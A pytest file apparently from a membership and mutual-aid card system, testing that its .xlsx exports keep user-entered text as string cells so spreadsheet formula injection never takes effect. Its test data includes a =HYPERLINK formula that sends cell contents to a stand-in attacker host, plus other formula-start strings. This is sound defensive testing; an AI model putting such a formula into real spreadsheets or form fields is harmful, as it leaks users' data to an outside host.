"""Every .xlsx export writes text as string cells: a name or employer of =HYPERLINK(…) never becomes a formula."""

import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.models import ApplicationStatus, MutualAidCardApplication, Org, User
from app.services import xlsx
from app.services.afterday import card_processing, exports
from app.services.afterday.exports import ExportScope
from app.services.ledger import spreadsheet
from app.services.live import reports
from tests.factories import make_application, make_card, make_enterprise

# What a stranger may type on the H5 page, and the other starts spreadsheet programs treat as formulas.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"]


def district() -> User:
    return db.session.scalar(select(User).where(User.username == "district"))


def hostile_data(seeded) -> None:
    venue = seeded.meeting.venues[0]
    for number, text in enumerate(HOSTILE):
        application = make_application(venue, name=text, employer=text, status=ApplicationStatus.APPROVED,
                                       member_no=f"M-{number}")
        make_card(application)
    make_enterprise(db.session.scalar(select(Org).where(Org.name == "仁和镇")), HOSTILE[0], industry=HOSTILE[1])
    seeded.meeting.title = HOSTILE[0]
    venue.place_name = HOSTILE[1]
    db.session.commit()


def all_card_ids() -> list[int]:
    return list(db.session.scalars(select(MutualAidCardApplication.id)))


EXPORTS = {
    "applications": lambda seeded: exports.applications_export(district(), ExportScope(), unmasked=True).content,
    "member_register": lambda seeded: exports.member_register_export(district(), ExportScope()).content,
    "bank_file": lambda seeded: card_processing.send_to_bank(district(), all_card_ids()).content,
    "ledger": lambda seeded: spreadsheet.export_workbook(district()).content,
    "day_report": lambda seeded: reports.summary_workbook(district(), seeded.meeting),
}


@pytest.mark.parametrize("export", EXPORTS, ids=list(EXPORTS))
def test_user_text_that_looks_like_a_formula_stays_a_string_cell(seeded, export):
    hostile_data(seeded)

    sheet = load_workbook(io.BytesIO(EXPORTS[export](seeded))).active

    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any(cell.value.startswith(HOSTILE[0]) for cell in cells), "the hostile text is in the file"
    assert [cell.value for cell in cells if cell.data_type != "s"] == []


def test_an_id_number_column_is_wide_enough_to_read_every_digit():
    content = xlsx.workbook_bytes("入会申请", ["序号", "身份证号", "工作单位"],
                                  [[1, "110105199001011234", "北京顺义恒通物流有限公司"]])
    sheet = load_workbook(io.BytesIO(content)).active

    assert sheet.column_dimensions["B"].width >= 20
    assert sheet.column_dimensions["C"].width >= 24
    assert sheet.column_dimensions["A"].width < 12
